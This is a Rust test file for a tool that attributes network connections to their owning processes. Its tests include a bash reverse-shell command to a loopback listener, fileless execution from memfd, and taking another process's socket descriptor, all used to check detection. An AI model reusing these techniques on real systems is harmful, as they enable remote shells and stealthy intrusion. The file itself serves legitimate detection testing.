//! Owners where it is easy to be wrong: sockets that are handed on, programs that change, numbers that are used again,
//! sockets without ports, other network namespaces, and few rights. Right or unknown, never wrong.

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::print_stdout,
    clippy::print_stderr,
    dead_code,
    reason = "a test"
)]

#[path = "support/asker.rs"]
mod asker;
#[path = "support/netns.rs"]
mod netns;

use std::collections::HashSet;
use std::io::{BufRead, BufReader, Write};
use std::net::{SocketAddr, TcpListener, TcpStream, UdpSocket};
use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::process::{Child, Command, Stdio};

use asker::{Asker, bash, copy_of_bash, end, said};
use egret::capture::wall::Stopwatch;
use egret::host::processes::Processes;
use egret::model::{Confidence, Endpoint, Protocol, Rungs};
use egret::sys::process::effective_user;
use netns::{ENOUGH, FAR, Lab, NEAR, Own, inside, skip};

fn at(address: SocketAddr) -> Endpoint {
    Endpoint::new(address.ip(), address.port())
}

/// A program that a test talks to through its input and output; it ends with the test.
struct Program {
    child: Child,
    told: BufReader<std::process::ChildStdout>,
}

impl Program {
    fn start(command: &mut Command) -> Self {
        let mut child = command.stdin(Stdio::piped()).stdout(Stdio::piped()).spawn().unwrap();
        let told = BufReader::new(child.stdout.take().unwrap());
        Self { child, told }
    }

    fn perl(script: &str) -> Self {
        Self::start(Command::new("perl").args(["-e", &format!("$| = 1; use Socket; {script}")]))
    }

    fn shell(path: &Path, script: &str) -> Self {
        Self::start(Command::new(path).args(["-c", script]))
    }

    fn pid(&self) -> u32 {
        self.child.id()
    }

    /// The next line that it writes.
    fn line(&mut self) -> String {
        let mut line = String::new();
        self.told.read_line(&mut line).unwrap();
        line.trim().to_owned()
    }

    fn tell(&mut self, line: &str) {
        writeln!(self.child.stdin.as_mut().unwrap(), "{line}").unwrap();
    }
}

impl Drop for Program {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// A listener on loopback, and who calls it.
struct Called {
    listener: TcpListener,
    at: SocketAddr,
}

impl Called {
    fn new() -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        listener.set_nonblocking(true).unwrap();
        let at = listener.local_addr().unwrap();
        Self { listener, at }
    }

    /// The shell's words that connect file 3 to it.
    fn words(&self) -> String {
        format!("exec 3<>/dev/tcp/127.0.0.1/{}", self.at.port())
    }

    fn accept(&self) -> (TcpStream, Endpoint) {
        let watch = Stopwatch::start();
        loop {
            match self.listener.accept() {
                Ok((near, from)) => return (near, at(from)),
                Err(why) => assert!(watch.elapsed() < ENOUGH, "nobody calls: {why}"),
            }
        }
    }
}

#[test]
fn a_forked_server_has_the_child_that_took_the_connection() {
    let asker = Asker::new();
    let mut server = Program::perl(
        r#"socket(S, PF_INET, SOCK_STREAM, 0); bind(S, sockaddr_in(0, INADDR_LOOPBACK)); listen(S, 9);
        print +(sockaddr_in(getsockname(S)))[0], "\n";
        while (accept(C, S)) { if (!fork) { close S; syswrite(C, "$$\n"); sysread(C, $_, 9); exit } close C }"#,
    );
    let to = SocketAddr::from(([127, 0, 0, 1], server.line().parse().unwrap()));
    let callers: Vec<TcpStream> = (0..3).map(|_| TcpStream::connect(to).unwrap()).collect();
    for caller in callers {
        let mut child = String::new();
        BufReader::new(&caller).read_line(&mut child).unwrap();
        let owner = asker.ask(Protocol::TCP, at(to), at(caller.local_addr().unwrap())).unwrap();
        assert_eq!((owner.pid, owner.confidence), (child.trim().parse().unwrap(), Confidence::Exact), "{owner:?}");
        assert_ne!(owner.pid, server.pid());
    }
}

/// Why the kernel does not tell of sockets by programs of ours, if so: that needs real rights.
fn lacks() -> Option<String> {
    Some(said(&Asker::new())).filter(|said| !said.is_empty())
}

/// Waits until a process is not there any more.
fn until_gone(pid: u32) {
    let watch = Stopwatch::start();
    while Path::new(&format!("/proc/{pid}")).exists() {
        assert!(watch.elapsed() < ENOUGH, "{pid} does not end");
    }
}

#[test]
fn a_fork_that_took_a_connection_and_ended_is_its_owner() {
    let test = "a_fork_that_took_a_connection_and_ended_is_its_owner";
    if let Some(why) = lacks() {
        return skip(test, &why);
    }
    let mut server = Program::perl(
        r#"$SIG{CHLD} = 'IGNORE'; socket(S, PF_INET, SOCK_STREAM, 0); bind(S, sockaddr_in(0, INADDR_LOOPBACK)); listen(S, 9);
        print +(sockaddr_in(getsockname(S)))[0], "\n";
        while (accept(C, S)) { if (!fork) { close S; syswrite(C, "$$\n"); exit } close C }"#,
    );
    let to = SocketAddr::from(([127, 0, 0, 1], server.line().parse().unwrap()));
    let perl = std::fs::canonicalize("/usr/bin/perl").unwrap();
    let told = |rungs: Rungs| {
        let asker = Asker::with(rungs);
        let mut caller = TcpStream::connect(to).unwrap();
        let from = at(caller.local_addr().unwrap());
        let mut child = String::new();
        std::io::Read::read_to_string(&mut caller, &mut child).unwrap();
        let child: u32 = child.trim().parse().unwrap();
        until_gone(child);
        drop(caller);
        let owner = asker.ask(Protocol::TCP, at(to), from).unwrap();
        assert_eq!(owner.exe.as_str(), perl.to_str().unwrap());
        (owner.pid == child, owner.pid == server.pid(), owner.confidence)
    };
    assert_eq!(told(Rungs::ALL), (true, false, Confidence::Exact));
    assert_eq!(told(Rungs::ALL.without(Rungs::DEATHS)), (true, false, Confidence::Exact));
    // Nobody saw who took it: it is the listener's.
    assert_eq!(told(Rungs::ALL.without(Rungs::CLOSES)), (false, true, Confidence::Listener));
}

#[test]
fn a_socket_that_another_closed_than_made_it_is_inherited() {
    let test = "a_socket_that_another_closed_than_made_it_is_inherited";
    if let Some(why) = lacks() {
        return skip(test, &why);
    }
    for (rungs, confidence) in
        [(Rungs::ALL, Confidence::Inherited), (Rungs::ALL.without(Rungs::CLOSES), Confidence::Exact)]
    {
        let asker = Asker::with(rungs);
        let called = Called::new();
        let giver = Program::shell(&bash(), &format!("{}; sleep 0.2 & exit", called.words()));
        let (mut near, from) = called.accept();
        near.set_nonblocking(false).unwrap();
        let pid = giver.pid();
        // Both have ended.
        assert_eq!(std::io::Read::read(&mut near, &mut [0; 8]).unwrap(), 0);
        drop((giver, near));
        let owner = asker.ask(Protocol::TCP, from, at(called.at)).unwrap();
        assert_eq!((owner.pid, owner.exe.as_str()), (pid, bash().to_str().unwrap()));
        assert_eq!(owner.confidence, confidence, "{owner:?}");
    }
}

/// Takes file 3 of another process for its own, as it could get it through a unix socket: both have one open file.
fn take_file_3(of: u32) -> Program {
    Program::perl(&format!(
        r#"my $p = syscall(434, {of}, 0); my $f = syscall(438, $p, 3, 0); print "$f\n"; sysread(STDIN, $_, 9)"#
    ))
}

#[test]
fn a_socket_that_was_handed_over_is_its_new_holders() {
    let asker = Asker::new();
    let called = Called::new();
    let mut giver = Program::shell(&bash(), &format!("{}; read _; exec 3>&-; echo closed; read _", called.words()));
    let (_near, from) = called.accept();
    let owner = asker.ask(Protocol::TCP, from, at(called.at)).unwrap();
    assert_eq!((owner.pid, owner.confidence), (giver.pid(), Confidence::Exact));
    let mut taker = take_file_3(giver.pid());
    let file = taker.line();
    if file == "-1" {
        return skip("a_socket_that_was_handed_over_is_its_new_holders", "no pidfd_getfd(2) here");
    }
    giver.tell("");
    assert_eq!(giver.line(), "closed");
    let owner = asker.ask(Protocol::TCP, from, at(called.at)).unwrap();
    assert_eq!((owner.pid, owner.confidence), (taker.pid(), Confidence::Inherited), "{owner:?}");
    assert!(owner.exe.as_str().contains("perl"), "{owner:?}");
}

#[test]
fn a_socket_passed_over_a_unix_socket_is_its_new_holders() {
    let test = "a_socket_passed_over_a_unix_socket_is_its_new_holders";
    if cfg!(not(target_arch = "x86_64")) {
        return skip(test, "the numbers of sendmsg and recvmsg are those of x86-64");
    }
    let asker = Asker::new();
    let called = Called::new();
    // SCM_RIGHTS of unix(7): a message of one byte, and the file beside it.
    let mut giver = Program::perl(&format!(
        r#"socketpair(A, B, AF_UNIX, SOCK_STREAM, 0); my $d = "x"; my $iov = pack("PQ", $d, 1);
        sub header {{ pack("QLx4PQPQlx4", 0, 0, $iov, 1, $_[0], 24, 0) }}
        if (!fork) {{
            my $c = pack("x24"); my $m = header($c); close A; syscall(47, fileno(B), $m, 0);
            print "taken $$ ", unpack("x16i", $c), "\n"; sleep 60; exit
        }}
        close B; socket(C, PF_INET, SOCK_STREAM, 0); connect(C, sockaddr_in({}, INADDR_LOOPBACK)); sysread(STDIN, $_, 9);
        my $c = pack("Qllix4", 20, 1, 1, fileno(C)); my $m = header($c); syscall(46, fileno(A), $m, 0); close C;
        print "given\n"; sysread(STDIN, $_, 9)"#,
        called.at.port()
    ));
    let (_near, from) = called.accept();
    let owner = asker.ask(Protocol::TCP, from, at(called.at)).unwrap();
    assert_eq!((owner.pid, owner.confidence), (giver.pid(), Confidence::Exact), "{owner:?}");
    giver.tell("");
    let told = [giver.line(), giver.line()];
    let taken = told.iter().find_map(|line| line.strip_prefix("taken ")).unwrap();
    let taker: u32 = taken.split(' ').next().unwrap().parse().unwrap();
    let owner = asker.ask(Protocol::TCP, from, at(called.at)).unwrap();
    assert_eq!((owner.pid, owner.confidence), (taker, Confidence::Inherited), "{owner:?}");
    Command::new("kill").arg(taker.to_string()).status().unwrap();
}

#[test]
fn a_program_that_became_another_is_told_as_what_it_is_now() {
    let asker = Asker::new();
    let called = Called::new();
    let sleep = std::fs::canonicalize("/bin/sleep").unwrap();
    let caller = Program::shell(&bash(), &format!("{}; read _; exec {} 60", called.words(), sleep.display()));
    let (_near, from) = called.accept();
    assert_eq!(asker.ask(Protocol::TCP, from, at(called.at)).unwrap().exe.as_str(), bash().to_str().unwrap());
    let mut caller = caller;
    caller.tell("");
    let watch = Stopwatch::start();
    while std::fs::read_link(format!("/proc/{}/exe", caller.pid())).unwrap() != sleep {
        assert!(watch.elapsed() < ENOUGH);
    }
    let owner = asker.ask(Protocol::TCP, from, at(called.at)).unwrap();
    assert_eq!((owner.pid, owner.exe.as_str()), (caller.pid(), sleep.to_str().unwrap()));
    assert_eq!(owner.cmdline.as_str(), format!("{} 60", sleep.display()));
}

#[test]
fn a_setuid_program_is_the_users_it_runs_as() {
    let test = "a_setuid_program_is_the_users_it_runs_as";
    if effective_user() != 0 {
        return skip(test, "only root can make a program of another user's");
    }
    let folder = tempfile::tempdir().unwrap();
    std::fs::set_permissions(folder.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
    let Ok(nc) = std::fs::canonicalize("/bin/nc") else { return skip(test, "no nc (netcat-openbsd)") };
    let program = folder.path().join("nc-of-nobody");
    std::fs::copy(nc, &program).unwrap();
    std::os::unix::fs::chown(&program, Some(65_534), None).unwrap();
    std::fs::set_permissions(&program, std::fs::Permissions::from_mode(0o4755)).unwrap();
    let called = Called::new();
    let port = called.at.port().to_string();
    let caller = Program::start(Command::new(&program).args(["127.0.0.1", &port]));
    let (_near, from) = called.accept();
    let owner = Asker::new().ask(Protocol::TCP, from, at(called.at)).unwrap();
    assert_eq!((owner.pid, owner.exe.as_str()), (caller.pid(), program.to_str().unwrap()));
    assert_eq!(owner.uid, Some(65_534), "{owner:?}");
}

#[test]
fn renamed_replaced_and_removed_executables() {
    let folder = tempfile::tempdir().unwrap();
    let shell = copy_of_bash(folder.path(), "before");
    let asker = Asker::new();
    let called = Called::new();
    let caller = Program::shell(&shell, &format!("{}; read _", called.words()));
    let (_near, from) = called.accept();
    let ask = || asker.ask(Protocol::TCP, from, at(called.at)).unwrap();
    assert_eq!((ask().exe.as_str(), ask().traits.ids()), (shell.to_str().unwrap(), vec!["writable-dir"]));
    let renamed = folder.path().join("after");
    std::fs::rename(&shell, &renamed).unwrap();
    let owner = ask();
    assert_eq!((owner.pid, owner.exe.as_str()), (caller.pid(), renamed.to_str().unwrap()));
    std::fs::remove_file(&renamed).unwrap();
    assert_eq!(ask().traits.ids(), ["deleted", "writable-dir"]);
    assert_eq!(ask().key(), owner.key(), "the same sender all the time");
    std::fs::write(&renamed, "an update").unwrap();
    let caller = Program::shell(&bash(), &format!("{}; read _", called.words()));
    let (_near, from) = called.accept();
    assert_eq!(asker.ask(Protocol::TCP, from, at(called.at)).unwrap().pid, caller.pid());
}

#[test]
fn an_executable_with_another_file_in_its_place_is_replaced_not_deleted() {
    let folder = tempfile::tempdir().unwrap();
    let shell = copy_of_bash(folder.path(), "server");
    let called = Called::new();
    let _caller = Program::shell(&shell, &format!("{}; read _", called.words()));
    let (_near, from) = called.accept();
    std::fs::remove_file(&shell).unwrap();
    copy_of_bash(folder.path(), "server");
    let owner = Asker::new().ask(Protocol::TCP, from, at(called.at)).unwrap();
    assert_eq!(owner.traits.ids(), ["replaced", "writable-dir"], "{owner:?}");
}

#[test]
fn a_thread_with_a_name_of_its_own_is_its_process() {
    let called = Called::new();
    let to = called.at;
    let caller = std::thread::Builder::new().name("worker-7".into()).spawn(move || TcpStream::connect(to).unwrap());
    let caller = caller.unwrap().join().unwrap();
    let owner = Asker::new().ask(Protocol::TCP, at(caller.local_addr().unwrap()), at(to)).unwrap();
    assert_eq!(owner.pid, std::process::id());
    let comm = std::fs::read_to_string("/proc/self/comm").unwrap();
    assert_eq!(owner.comm.as_str(), comm.trim());
    assert_ne!(owner.comm.as_str(), "worker-7");
}

#[test]
fn how_a_program_was_started_and_what_it_is_are_told() {
    let asker = Asker::new();
    let called = Called::new();
    let script = format!("{}; read _", called.words());
    let plain = Program::shell(&bash(), &script);
    let (_near, from) = called.accept();
    let owner = asker.ask(Protocol::TCP, from, at(called.at)).unwrap();
    assert_eq!(owner.cmdline.as_str(), format!("{} -c {script}", bash().display()));
    assert_eq!(owner.parents[0].pid, std::process::id());
    assert_eq!(owner.parents[0].exe.as_str(), std::env::current_exe().unwrap().to_str().unwrap());
    assert!(owner.traits.is_empty(), "a shell that calls somebody is nothing odd: {owner:?}");
    drop(plain);
    // Its input and output are the connection: what a reverse shell is.
    let script = format!("exec 0<>/dev/tcp/127.0.0.1/{} 1>&0; read _", called.at.port());
    let odd = Program::shell(&bash(), &script);
    let (near, from) = called.accept();
    let watch = Stopwatch::start();
    // Its file becomes its output some time after the connection is made.
    let output = || std::fs::read_link(format!("/proc/{}/fd/1", odd.pid())).unwrap();
    while !output().to_str().unwrap().starts_with("socket:") {
        assert!(watch.elapsed() < ENOUGH);
    }
    let owner = asker.ask(Protocol::TCP, from, at(called.at)).unwrap();
    assert_eq!((owner.pid, owner.traits.ids()), (odd.pid(), vec!["shell-on-socket"]), "{owner:?}");
    drop(near);
}

#[test]
fn a_program_that_never_was_a_file() {
    if cfg!(not(target_arch = "x86_64")) {
        return skip("a_program_that_never_was_a_file", "the number of memfd_create is that of x86-64");
    }
    let called = Called::new();
    let shell = format!("{}; read _", called.words());
    let _caller = Program::perl(&format!(
        r#"my $n = "x"; my $f = syscall(319, $n, 0); open(my $to, ">&=", $f); open(my $from, "<", "{}");
        binmode $to; binmode $from; local $/; my $all = <$from>; print $to $all; select($to); $| = 1; select(STDOUT);
        exec {{"/proc/$$/fd/$f"}} "sh", "-c", "{shell}""#,
        bash().display()
    ));
    let (_near, from) = called.accept();
    let owner = Asker::new().ask(Protocol::TCP, from, at(called.at)).unwrap();
    assert_eq!((owner.exe.as_str(), owner.traits.ids()), ("/memfd:x (deleted)", vec!["memfd"]), "{owner:?}");
}

#[test]
fn a_number_that_is_used_again_is_not_the_program_before() {
    let test = "a_number_that_is_used_again_is_not_the_program_before";
    let last = Path::new("/proc/sys/kernel/ns_last_pid");
    if effective_user() != 0 || std::fs::OpenOptions::new().write(true).open(last).is_err() {
        return skip(test, "process numbers may not be chosen");
    }
    let asker = Asker::new();
    let called = Called::new();
    // Its child keeps the connection when the shell is gone.
    let mut first = Program::shell(&bash(), &format!("{}; sleep 60 >/dev/null & echo $!; read _", called.words()));
    let keeper: u32 = first.line().parse().unwrap();
    let (_near, from) = called.accept();
    let gone = first.pid();
    assert_eq!(asker.ask(Protocol::TCP, from, at(called.at)).unwrap().pid, gone);
    drop(first);
    let watch = Stopwatch::start();
    let again = loop {
        assert!(watch.elapsed() < ENOUGH, "number {gone} is not given again");
        std::fs::write(last, (gone - 1).to_string()).unwrap();
        let one = Program::start(Command::new("sleep").arg("60"));
        if one.pid() == gone {
            break one;
        }
    };
    let owner = asker.ask(Protocol::TCP, from, at(called.at)).unwrap();
    assert_eq!((owner.pid, owner.confidence), (keeper, Confidence::Inherited), "{owner:?}");
    assert_eq!(again.pid(), gone);
    Command::new("kill").arg(keeper.to_string()).status().unwrap();
}

#[test]
fn processes_that_end_while_they_are_read_give_nothing_or_the_truth() {
    let sink = UdpSocket::bind("127.0.0.1:0").unwrap();
    let script = format!("exec 3<>/dev/udp/127.0.0.1/{}", sink.local_addr().unwrap().port());
    let runs: Vec<_> = (0..2)
        .map(|_| {
            let script = script.clone();
            std::thread::spawn(move || {
                for _ in 0..60 {
                    assert!(Command::new(bash()).args(["-c", &script]).status().unwrap().success());
                }
            })
        })
        .collect();
    let inodes = |text: &str| -> HashSet<u32> {
        text.lines().skip(1).filter_map(|line| line.split_whitespace().nth(9)?.parse().ok()).collect()
    };
    let (mut walks, mut found) = (0, 0);
    let processes = Processes::default();
    while !runs.iter().all(std::thread::JoinHandle::is_finished) {
        let wanted = inodes(&std::fs::read_to_string("/proc/net/udp").unwrap());
        let walk = processes.walk(&wanted).unwrap();
        for holding in walk.holders.values().flatten() {
            let process = &holding.process;
            assert!(process.start > 0 && !process.comm.is_empty(), "{process:?}");
            found += 1;
        }
        walks += 1;
    }
    for run in runs {
        run.join().unwrap();
    }
    assert!(walks > 0 && found > 0, "{walks} walks found {found}");
}

#[test]
fn a_ping_is_its_programs_and_a_guess_where_two_could_have_sent_it() {
    inside("a_ping_is_its_programs_and_a_guess_where_two_could_have_sent_it", &Own::Network, || {
        let _lab = Lab::new();
        let asker = Asker::new();
        let ask = || asker.ask(Protocol::ICMP, end(NEAR, 0), end(FAR, 0));
        assert_eq!(ask(), None, "nobody has such a socket");
        let pinger = |program: &Path| {
            let script =
                r#"$| = 1; use Socket; socket(S, PF_INET, SOCK_RAW, 1) or die; print "open\n"; sysread(STDIN, $_, 9)"#;
            let mut program = Program::start(Command::new(program).args(["-e", script]));
            assert_eq!(program.line(), "open");
            program
        };
        let perl = std::fs::canonicalize("/usr/bin/perl").unwrap();
        let first = pinger(&perl);
        let owner = ask().unwrap();
        assert_eq!((owner.pid, owner.exe.as_str()), (first.pid(), perl.to_str().unwrap()));
        assert_eq!(owner.confidence, Confidence::Listener);
        let folder = tempfile::tempdir().unwrap();
        let other = folder.path().join("perl");
        std::fs::copy(&perl, &other).unwrap();
        let _second = pinger(&other);
        // The list of such sockets may be a moment old.
        let watch = Stopwatch::start();
        while ask().unwrap().confidence != Confidence::Guess {
            assert!(watch.elapsed() < ENOUGH, "two programs could have sent it");
        }
        // A socket for another protocol has nothing to do with it.
        assert_eq!(asker.ask(Protocol::from_number(132), end(NEAR, 0), end(FAR, 0)), None);
    });
}

#[test]
fn sockets_of_other_namespaces_and_forwarded_traffic_have_their_owner() {
    inside("sockets_of_other_namespaces_and_forwarded_traffic_have_their_owner", &Own::Network, || {
        let lab = Lab::new();
        let listener = TcpListener::bind((NEAR, 0)).unwrap();
        let to = listener.local_addr().unwrap();
        let script = format!("exec 3<>/dev/tcp/{NEAR}/{}; read _", to.port());
        let inner = lab.at_far(move || Program::shell(&bash(), &script));
        let (_near, from) = listener.accept().unwrap();
        let asker = Asker::new();
        // The far host stands for a container: its end of what passes here.
        let owner = asker.ask(Protocol::TCP, at(from), at(to)).unwrap();
        assert_eq!((owner.pid, owner.confidence), (inner.pid(), Confidence::Exact), "{owner:?}");
        // The end that is there is the one that matters, whichever comes first.
        let owner = asker.ask(Protocol::TCP, end("192.0.2.1", 443), at(from)).unwrap();
        assert_eq!((owner.pid, owner.confidence), (inner.pid(), Confidence::Guess), "by its address: {owner:?}");
        // What nobody here has is nobody's, and our own end is ours.
        assert_eq!(asker.ask(Protocol::TCP, end("192.0.2.1", 1), end("192.0.2.2", 2)), None);
        let owner = asker.ask(Protocol::TCP, at(to), at(from)).unwrap();
        assert_eq!((owner.pid, owner.confidence), (std::process::id(), Confidence::Exact));
        let few = Rungs::ALL.without(Rungs::NAMESPACES);
        assert_eq!(Asker::with(few).ask(Protocol::TCP, at(from), at(to)), None, "that rung is turned off");
    });
}

#[test]
fn masqueraded_traffic_is_its_containers() {
    let test = "masqueraded_traffic_is_its_containers";
    if Command::new("nft").arg("--version").output().is_err() {
        return skip(test, "no nft (nftables)");
    }
    inside(test, &Own::Network, || {
        let lab = Lab::new();
        // The far host stands for a container; beyond this host, out there, is somebody whom it calls.
        netns::ip("link add out0 type veth peer name out1");
        let beyond = std::thread::spawn(|| {
            egret::sys::namespace::new_network().unwrap();
            std::fs::File::open("/proc/thread-self/ns/net").unwrap()
        });
        let beyond = beyond.join().unwrap();
        let number = std::os::fd::AsRawFd::as_raw_fd(&beyond);
        netns::ip(&format!("link set out1 netns /proc/{}/fd/{number}", std::process::id()));
        netns::ip("addr add 192.0.2.1/24 dev out0");
        netns::ip("link set out0 up");
        lab.at_far(|| netns::ip("route add default via 10.77.0.1"));
        std::fs::write("/proc/sys/net/ipv4/ip_forward", "1").unwrap();
        let rules = "add table ip t; add chain ip t c { type nat hook postrouting priority 100 ; }; \
                     add rule ip t c oifname out0 masquerade";
        let done = Command::new("nft").arg(rules).output().unwrap();
        if !done.status.success() {
            return skip(test, &String::from_utf8_lossy(&done.stderr));
        }
        let listener = std::thread::spawn(move || {
            egret::sys::namespace::enter_network(std::os::fd::AsFd::as_fd(&beyond)).unwrap();
            netns::ip("addr add 192.0.2.9/24 dev out1");
            netns::ip("link set out1 up");
            TcpListener::bind("192.0.2.9:443").unwrap()
        });
        let listener = listener.join().unwrap();
        netns::until_ready("out0");
        let inner = lab.at_far(|| Program::shell(&bash(), "exec 3<>/dev/tcp/192.0.2.9/443; read _"));
        let (_near, from) = listener.accept().unwrap();
        assert_eq!(from.ip().to_string(), "192.0.2.1", "it is masqueraded");
        let owner = Asker::new().ask(Protocol::TCP, at(from), end("192.0.2.9", 443)).unwrap();
        assert_eq!((owner.pid, owner.confidence), (inner.pid(), Confidence::Exact), "{owner:?}");
        // A port that nothing is translated from is nobody's.
        let other = Endpoint::new(from.ip(), from.port() ^ 1);
        assert_eq!(Asker::new().ask(Protocol::TCP, other, end("192.0.2.9", 443)), None);
    });
}

#[test]
fn what_a_packet_socket_sends_is_a_guess_and_listening_ones_are_not_meant() {
    let test = "what_a_packet_socket_sends_is_a_guess_and_listening_ones_are_not_meant";
    inside(test, &Own::NetworkAlone, || {
        if let Some(why) = lacks() {
            return skip(test, &why);
        }
        let opener = |hears: u16| {
            let script = format!(r#"socket(S, 17, 3, {hears}) or die; print "open\n"; sysread(STDIN, $_, 9)"#);
            let mut program = Program::perl(&script);
            assert_eq!(program.line(), "open");
            program
        };
        let ask = || Asker::new().ask(Protocol::UDP, end("192.0.2.77", 4_000), end("192.0.2.78", 4_001));
        assert_eq!(ask(), None);
        // ETH_P_ALL in the order of the wire: it listens, as tcpdump does.
        let _listening = opener(0x0003_u16.to_be());
        assert_eq!(ask(), None);
        let sending = opener(0);
        let owner = ask().unwrap();
        assert_eq!((owner.pid, owner.confidence), (sending.pid(), Confidence::Guess), "{owner:?}");
    });
}

/// Runs a copy of this test process as nobody, who has no rights; with `hidepid`, processes of others are hidden.
fn as_nobody(test: &str, hidepid: bool, body: impl FnOnce(), env: &[(&str, String)]) {
    const MARK: &str = "EGRET_TEST_AS_NOBODY";
    if std::env::var_os(MARK).is_some() {
        return body();
    }
    if effective_user() != 0 {
        return skip(test, "only root can become nobody");
    }
    let folder = tempfile::tempdir().unwrap();
    std::fs::set_permissions(folder.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
    let program = folder.path().join("test");
    std::fs::copy(std::env::current_exe().unwrap(), &program).unwrap();
    std::fs::set_permissions(&program, std::fs::Permissions::from_mode(0o755)).unwrap();
    let hide = if hidepid { "mount -t proc -o hidepid=2 proc /proc && " } else { "" };
    let become_nobody = "exec setpriv --reuid=65534 --regid=65534 --clear-groups --inh-caps=-all --bounding-set=-all";
    let words = format!("{hide}{become_nobody} \"$0\" --exact {test} --nocapture --test-threads=1");
    let done = Command::new("unshare")
        .args(["-m", "sh", "-c", &words])
        .arg(&program)
        .env(MARK, "1")
        .envs(env.iter().map(|(key, value)| (*key, value)))
        .output()
        .unwrap();
    let (out, err) = (String::from_utf8_lossy(&done.stdout), String::from_utf8_lossy(&done.stderr));
    assert!(done.status.success() && out.contains("1 passed"), "{test} failed as nobody:\n{out}\n{err}");
}

/// What is right without rights: our own sockets; what belongs to others is unknown, and that is said.
fn with_few_rights(test: &str, hidepid: bool, says: &str) {
    let called = Called::new();
    let stream = TcpStream::connect(called.at).unwrap();
    let from = stream.local_addr().unwrap();
    let env = [("EGRET_TEST_FROM", from.to_string()), ("EGRET_TEST_TO", called.at.to_string())];
    let body = || {
        let read = |name: &str| at(std::env::var(name).unwrap().parse().unwrap());
        let asker = Asker::new();
        assert_eq!(asker.ask(Protocol::TCP, read("EGRET_TEST_FROM"), read("EGRET_TEST_TO")), None);
        let ours = Called::new();
        let stream = TcpStream::connect(ours.at).unwrap();
        let owner = asker.ask(Protocol::TCP, at(stream.local_addr().unwrap()), at(ours.at)).unwrap();
        assert_eq!((owner.pid, owner.uid), (std::process::id(), Some(65_534)));
        let said = said(&asker);
        assert!(said.contains(says) && said.contains("CAP_SYS_PTRACE"), "{said}");
        assert!(said.contains("CAP_BPF"), "{said}");
    };
    as_nobody(test, hidepid, body, &env);
}

#[test]
fn sockets_of_others_are_unknown_without_rights_and_it_is_said() {
    with_few_rights("sockets_of_others_are_unknown_without_rights_and_it_is_said", false, "may not be read");
}

#[test]
fn hidden_processes_are_unknown_and_it_is_said() {
    with_few_rights("hidden_processes_are_unknown_and_it_is_said", true, "hidepid");
}
